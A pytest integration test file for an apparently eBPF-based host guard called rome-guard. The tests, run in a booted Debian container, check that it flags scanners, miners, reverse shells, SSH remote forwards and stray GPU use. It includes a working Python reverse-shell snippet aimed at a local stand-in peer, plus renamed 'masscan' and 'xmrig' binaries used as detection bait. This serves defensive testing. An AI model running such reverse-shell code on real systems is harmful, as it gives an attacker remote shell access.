"""The systemd unit as an operator runs it: `make install` in a booted Debian,
`systemctl start rome-guard`, and real alerts in the installed journal.

One container (tests/fixtures/booted.py) is booted for the module from the
cached debootstrap root; `make install` runs inside from a copy of this
working tree, with the distribution's own python3 and python3-bpfcc, and
the shipped unit starts the guard under its whole sandbox (capabilities,
ProtectHome=, ProtectSystem=, the system call filter). Each scenario runs
as a transient unit inside, so alerts are matched by the unit they name.

What the booted guard can and cannot see: systemd must be PID 1, so it
runs in a PID namespace of its own, and there the kernel's pids are not
/proc's. The guard says so and polls /proc (daemon.CHILD_PID_NAMESPACE): exec,
connect, stdio-socket, ssh-config and NVML detections and user-space kills
are checked here; the eBPF-only ones (wire payloads, /dev/nvidia* opens
before NVML lists the process) are checked under the DaemonSet's container,
which runs in the host PID namespace (tests/deploy/test_container.py).
"""

from __future__ import annotations

import json
import os
import shutil
import time
from typing import Callable

import pytest

from tests.conftest import require, require_root
from tests.fixtures import fake_nvml
from tests.fixtures.booted import BootedHost
from tests.fixtures.debian_root import debian_root, wheelhouse, working_tree_tar

pytestmark = [pytest.mark.root, pytest.mark.ebpf]

ALERTS = "/var/lib/rome-guard/alerts.jsonl"
NVML_STATE = "/etc/rome-guard-test/nvml.state"
FAKE_NVML_DIR = "/opt/rome-guard-test/nvml"
GPU0 = "GPU-00000000-0000-0000-0000-000000000000"
CONFIG = """\
mode: {mode}
metrics:
  addr: 127.0.0.1:9985
gpu:
  poll_interval: 0.3
  accounting: false
"""
# a site rule in rules.d: the offender only this guard knows, so that the
# other daemons on a shared test host (same kernel, enforce mode) never kill
# it first
SITE_RULE = """\
rules:
  - id: site-booted-offender
    category: custom
    severity: high
    description: the booted suite's offender
    action: kill
    match:
      name: [rg-offender]
"""
# the stand-in libnvidia-ml for the unit: a drop-in, as a site would add one
DROP_IN = f"""\
[Service]
Environment=LD_LIBRARY_PATH={FAKE_NVML_DIR} FAKE_NVML_STATE={NVML_STATE}
"""
# a peer that accepts and then says nothing: the ssh client waits for its
# banner, a shell for its commands, a miner for its job
SILENT_PEER = """
import socket, sys, time
s = socket.create_server((sys.argv[1], int(sys.argv[2])))
peers = []
while True:
    peers.append(s.accept()[0])
"""
REVERSE_SHELL = """
import os, socket
s = socket.create_connection(("127.0.0.4", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""
OPENER = """
import os, sys, time
fd = os.open("/dev/nvidia0", os.O_RDONLY)
time.sleep(120)
"""


class Unit:
    """The booted container with rome-guard installed, and its journal."""

    def __init__(self, host: BootedHost):
        self.host = host

    def configure(self, mode: str) -> None:
        self.host.write("/etc/rome-guard/config.yaml", CONFIG.format(mode=mode))

    def records(self) -> list[dict]:
        # a failing nsenter raises (with its reason), not an empty journal
        out = self.host.sh(f"test ! -e {ALERTS} || cat {ALERTS}").stdout
        return [json.loads(line) for line in out.splitlines() if line.strip()]

    def wait_alert(self, predicate: Callable[[dict], bool], timeout: float = 20.0) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = [r for r in self.records() if _matches(predicate, r)]
            if found:
                return found[0]
            time.sleep(0.3)
        raise AssertionError(f"no such record; journal:\n{self.records()}\nlog:\n{self.log()}")

    def alerts_of(self, unit: str, rule: str | None = None) -> list[dict]:
        return [r for r in self.records() if _matches(of_unit(unit, rule), r)]

    def log(self) -> str:
        return self.host.run(
            ["journalctl", "-u", "rome-guard", "--no-pager", "-o", "cat"], check=False
        ).stdout[-6000:]

    def main_pid(self) -> int:
        return self.host.main_pid("rome-guard.service")

    def settle(self, seconds: float = 2.0) -> None:
        """Let the poll sensor (every 0.5 s) see what is there by now."""
        time.sleep(seconds)

    def start(self, unit: str, *argv: str, properties: tuple[str, ...] = ()) -> int:
        self.host.start_unit(unit, list(argv), *properties)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            pid = self.host.main_pid(f"{unit}.service")
            # started means exec'd: until then the pid is systemd's fork
            exe = self.host.run(["readlink", f"/proc/{pid}/exe"], check=False).stdout.strip()
            if pid and exe and exe != "/usr/lib/systemd/systemd":
                return pid
            time.sleep(0.1)
        raise AssertionError(f"{unit} did not start")

    def stop(self, *units: str) -> None:
        self.host.run(["systemctl", "stop", *(f"{u}.service" for u in units)], check=False)


def _matches(predicate: Callable[[dict], bool], record: dict) -> bool:
    try:
        return bool(predicate(record))
    except (KeyError, TypeError):
        return False


def of_unit(unit: str, rule: str | None = None) -> Callable[[dict], bool]:
    """Alert records of a process in the transient unit (and of rule)."""
    return lambda r: (
        r.get("event") == "alert"
        and r["process"]["unit"] == f"{unit}.service"
        and (rule is None or rule in [x["rule"] for x in r["rules"]])
    )


@pytest.fixture(scope="module")
def unit():
    require_root()
    for tool in ("systemd-nspawn", "debootstrap", "nsenter"):
        require(shutil.which(tool) is not None, f"{tool} missing: scripts/setup-host.sh --test")
    root = debian_root()
    wheels = wheelhouse(root)
    nvml = fake_nvml.library_dir()
    with BootedHost(
        root,
        binds_ro=("/lib/modules", "/usr/src", f"{wheels}:/mnt/wheels", f"{nvml}:{FAKE_NVML_DIR}"),
    ) as host:
        host.run(["sh", "-c", "mkdir -p /opt/src && tar -C /opt/src -x"], input=working_tree_tar())
        install = host.sh(
            "cd /opt/src && make install PIP_INSTALL_ARGS='--no-index --find-links /mnt/wheels'",
            check=False,
            timeout=600,
        )
        assert install.returncode == 0, install.stdout + install.stderr
        guarded = Unit(host)
        guarded.configure("monitor")
        state = fake_nvml.FakeState(gpus=[fake_nvml.FakeGpu(0, GPU0)])
        host.sh(f"mkdir -p {os.path.dirname(NVML_STATE)} /etc/systemd/system/rome-guard.service.d")
        host.write(NVML_STATE, state.render())
        host.write("/etc/systemd/system/rome-guard.service.d/test-nvml.conf", DROP_IN)
        host.write("/etc/rome-guard/rules.d/50-booted.yaml", SITE_RULE)
        host.sh("touch /dev/nvidia0 && chmod 0666 /dev/nvidia0")  # a stand-in device node
        started = host.sh(
            "systemctl daemon-reload && systemctl start rome-guard", check=False, timeout=200
        )
        assert started.returncode == 0, started.stderr + guarded.log()
        guarded.start("rg-peer-ssh", "python3", "-c", SILENT_PEER, "127.0.0.3", "2022")
        guarded.start("rg-peer-shell", "python3", "-c", SILENT_PEER, "127.0.0.4", "4444")
        guarded.start("rg-peer-pool", "python3", "-c", SILENT_PEER, "127.0.0.2", "3333")
        yield guarded


def test_the_installed_unit_runs_on_the_distributions_python_and_bcc(unit: Unit) -> None:
    """`make install` used /usr/bin/python3 and python3-bpfcc; the unit is
    active, notified ready, and says which coverage it has and why."""
    host = unit.host
    assert host.run(["systemctl", "is-active", "rome-guard"]).stdout.strip() == "active"
    python = host.run(["readlink", "-f", "/opt/rome-guard/bin/python"]).stdout.strip()
    assert python.startswith("/usr/bin/python3")
    bcc = host.run(["/opt/rome-guard/bin/python", "-c", "import bcc; print(bcc.__file__)"])
    assert bcc.stdout.strip() == "/opt/rome-guard/system-bcc/bcc/__init__.py"
    assert host.run(["readlink", "-f", "/opt/rome-guard/system-bcc/bcc"]).stdout.strip() == (
        "/usr/lib/python3/dist-packages/bcc"
    )
    status = json.loads(host.run(["rome-guard", "status", "--json"]).stdout)
    assert status["sensor"] == "poll"
    log = unit.log()
    assert "PID namespace of its own" in log and "DEGRADED COVERAGE" in log
    assert "GPU features on: 1 GPU(s)" in log


def test_exec_of_a_scanner_is_alerted_and_attributed_to_its_unit(unit: Unit) -> None:
    """probe-scanner-binary, an alert-only rule: the other daemons on a
    shared test host (enforce mode, same kernel) leave the process alone."""
    unit.start("rg-exec", "sh", "-c", "cp /bin/sleep /tmp/masscan && exec /tmp/masscan 60")
    unit.start("rg-exec-clean", "sleep", "60")
    try:
        alert = unit.wait_alert(of_unit("rg-exec", "probe-scanner-binary"))
        assert alert["process"]["exe"] == "/tmp/masscan"
        assert alert["process"]["cgroup"] == "/system.slice/rg-exec.service"
        unit.settle()
        assert unit.alerts_of("rg-exec-clean") == []
    finally:
        unit.stop("rg-exec", "rg-exec-clean")


def test_connect_to_a_pool_port_with_miner_evidence(unit: Unit) -> None:
    """miner-pool-port-supporting: a binary from /tmp connects to :3333;
    the same connect from /usr/bin/python3 is clean (the port alone never
    fires)."""
    hold = "import socket, time; s = socket.create_connection(('127.0.0.2', 3333)); time.sleep(60)"
    unit.start(
        "rg-connect", "sh", "-c", f'cp /usr/bin/python3 /tmp/worker && exec /tmp/worker -c "{hold}"'
    )
    unit.start("rg-connect-clean", "python3", "-c", hold)
    try:
        unit.wait_alert(of_unit("rg-connect", "miner-pool-port-supporting"))
        unit.settle()
        assert unit.alerts_of("rg-connect-clean") == []
    finally:
        unit.stop("rg-connect", "rg-connect-clean")


def test_shell_with_a_socket_on_its_stdio(unit: Unit) -> None:
    """shell-stdio-socket; a service's shell with the journal's unix socket
    on its stdout (every systemd service) is clean."""
    unit.start("rg-shell", "python3", "-c", REVERSE_SHELL)
    unit.start("rg-shell-clean", "sh", "-c", "sleep 60")
    try:
        alert = unit.wait_alert(of_unit("rg-shell", "shell-stdio-socket"))
        assert alert["process"]["comm"] == "sh"
        unit.settle()
        assert unit.alerts_of("rg-shell-clean") == []
    finally:
        unit.stop("rg-shell", "rg-shell-clean")


SSH_CONFIG = """\
Host devbox
  HostName 127.0.0.3
  Port 2022
  RemoteForward 127.0.0.1:2222 localhost:22
Host devbox-plain
  HostName 127.0.0.3
  Port 2022
Host *
  BatchMode yes
  StrictHostKeyChecking no
  UserKnownHostsFile /dev/null
"""


def test_remote_forward_in_a_users_ssh_config_under_the_unit(unit: Unit) -> None:
    """`ssh -N devbox` says nothing of a forward; the user's ~/.ssh/config
    does. The guard reads it with `ssh -G` as that user, which under the
    unit needs CAP_SETUID/CAP_SETGID and a /home that ProtectHome= leaves
    visible (issue 17's fix of the unit's privileges; fails without it)."""
    host = unit.host
    host.sh(
        "id rgssh >/dev/null 2>&1 || useradd -m -d /home/rgssh -s /bin/sh rgssh; "
        "install -d -m 0700 -o rgssh -g rgssh /home/rgssh/.ssh"
    )
    host.write("/home/rgssh/.ssh/config", SSH_CONFIG)
    host.sh("chown rgssh:rgssh /home/rgssh/.ssh/config && chmod 0600 /home/rgssh/.ssh/config")
    as_user = ("User=rgssh", "WorkingDirectory=/home/rgssh", "Environment=HOME=/home/rgssh")
    unit.start("rg-ssh", "ssh", "-N", "devbox", properties=as_user)
    unit.start("rg-ssh-clean", "ssh", "devbox-plain", "true", properties=as_user)
    try:
        alert = unit.wait_alert(of_unit("rg-ssh", "tunnel-ssh-remote-forward"))
        assert alert["process"]["user"] == "rgssh"
        assert "effective ssh config has remote forward" in alert["reason"]
        unit.settle()
        assert unit.alerts_of("rg-ssh-clean") == []
    finally:
        unit.stop("rg-ssh", "rg-ssh-clean")


def test_unregistered_gpu_consumer_through_the_stand_in_nvml(unit: Unit) -> None:
    """The stand-in libnvidia-ml (a drop-in's LD_LIBRARY_PATH) lists two
    processes holding /dev/nvidia0: the registered one is clean."""
    stray = unit.start("rg-gpu", "python3", "-c", OPENER)
    trainer = unit.start("rg-gpu-clean", "python3", "-c", OPENER)
    try:
        unit.host.run(
            [
                "rome-guard",
                "gpu",
                "register",
                "--pid",
                str(trainer),
                "--gpus",
                "0",
                "--job",
                "train",
            ]
        )
        state = fake_nvml.FakeState(
            gpus=[fake_nvml.FakeGpu(0, GPU0)],
            processes=[fake_nvml.FakeProcess(0, stray), fake_nvml.FakeProcess(0, trainer)],
            generation=1,
        )
        unit.host.write(NVML_STATE, state.render())
        alert = unit.wait_alert(of_unit("rg-gpu", "gpu-unregistered-consumer"))
        assert alert["gpu"]["uuid"] == GPU0
        unit.settle()
        assert unit.alerts_of("rg-gpu-clean") == []
    finally:
        unit.stop("rg-gpu", "rg-gpu-clean")


def test_reload_keeps_the_guard_and_its_rules(unit: Unit) -> None:
    before = unit.main_pid()
    unit.host.run(["systemctl", "reload", "rome-guard"])
    deadline = time.monotonic() + 20
    while "reloaded:" not in unit.log() and time.monotonic() < deadline:
        time.sleep(0.3)
    assert "reloaded:" in unit.log()
    assert unit.main_pid() == before
    assert unit.host.run(["systemctl", "is-active", "rome-guard"]).stdout.strip() == "active"


def test_enforce_mode_kills_the_offender_under_the_unit(unit: Unit) -> None:
    unit.configure("enforce")
    unit.host.run(["systemctl", "restart", "rome-guard"], timeout=200)
    try:
        # started without waiting for it: the guard may kill it at once
        unit.host.start_unit(
            "rg-kill", ["sh", "-c", "cp /bin/sleep /tmp/xmrig && exec /tmp/xmrig 60"]
        )
        alert = unit.wait_alert(of_unit("rg-kill", "miner-known-binary"))
        assert alert["action"] == "kill" and alert["mode"] == "enforce"
        response = unit.wait_alert(
            lambda r: r.get("event") == "response" and r["alert_id"] == alert["id"]
        )
        assert response["action"] == "killed"  # by this guard, not another one on the host
        pid = alert["process"]["pid"]
        assert unit.host.run(["kill", "-0", str(pid)], check=False).returncode != 0
    finally:
        unit.stop("rg-kill")
        unit.configure("monitor")
        unit.host.run(["systemctl", "restart", "rome-guard"], timeout=200)


def test_stop_leaves_nothing_attached(unit: Unit) -> None:
    """After `systemctl stop`: no BPF program held by the guard, no pin in
    its BPF file system, no cgroup attachment in its cgroup tree, no TC
    filter on its interfaces."""
    host = unit.host
    guard = host.host_pid(unit.main_pid())
    assert guard
    host.run(["systemctl", "stop", "rome-guard"], timeout=60)
    assert (
        host.run(["systemctl", "is-active", "rome-guard"], check=False).stdout.strip() == "inactive"
    )
    assert not os.path.exists(f"/proc/{guard}")
    # progs.debug, maps.debug: the kernel's own, in every bpffs instance
    assert [e for e in os.listdir(host.bpffs) if not e.endswith(".debug")] == []
    cgroups = host.run(["bpftool", "-j", "cgroup", "tree", "/sys/fs/cgroup/unified"])
    attached = [
        (c["cgroup"], p["name"])
        for c in json.loads(cgroups.stdout or "[]")
        for p in c.get("programs", [])
        if not p["name"].startswith("sd_")  # systemd's own IP accounting and firewall
    ]
    assert attached == []
    tc = host.sh("tc filter show dev lo egress; tc filter show dev lo ingress", check=False)
    assert tc.stdout.strip() == ""
    host.run(["systemctl", "start", "rome-guard"], timeout=200)
